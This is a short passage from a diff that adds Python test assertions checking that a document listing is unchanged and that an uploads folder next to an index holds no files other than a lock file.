+    assert read_json(exchange(port, make("GET /documents"), timeout=SECONDS)) == before
+    folder = index.with_name(f"{index.name}.uploads")
+    assert not folder.exists() or not [file for file in folder.iterdir() if file.name != ".lock"]
